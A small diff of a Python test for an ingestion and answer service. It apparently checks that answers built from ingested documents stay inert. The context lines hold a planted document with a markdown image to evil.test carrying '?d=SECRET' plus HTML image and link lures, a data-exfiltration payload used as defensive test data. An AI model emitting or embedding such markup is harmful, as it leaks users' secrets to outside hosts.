@@ -80,7 +80,7 @@ def test_every_field_of_an_answer_is_inert(small_service: Any, tmp_path: Path) -
         "Book flights through the travel portal ![x](https://evil.test/p.png?d=SECRET) at least "
         "two weeks ahead. Questions go to www.evil.test or <img src=https://evil.test/i.png>.\n"
     )
-    svc = small_service(ingest_roots=[tmp_path])
+    svc = small_service(ingest={"roots": [tmp_path]})
     with svc.client("alice") as c:
         loaded = c.post("/v1/admin/ingest", json={"paths": [str(root)], "groups": "everyone"})
         assert loaded.json()["added"] == 1
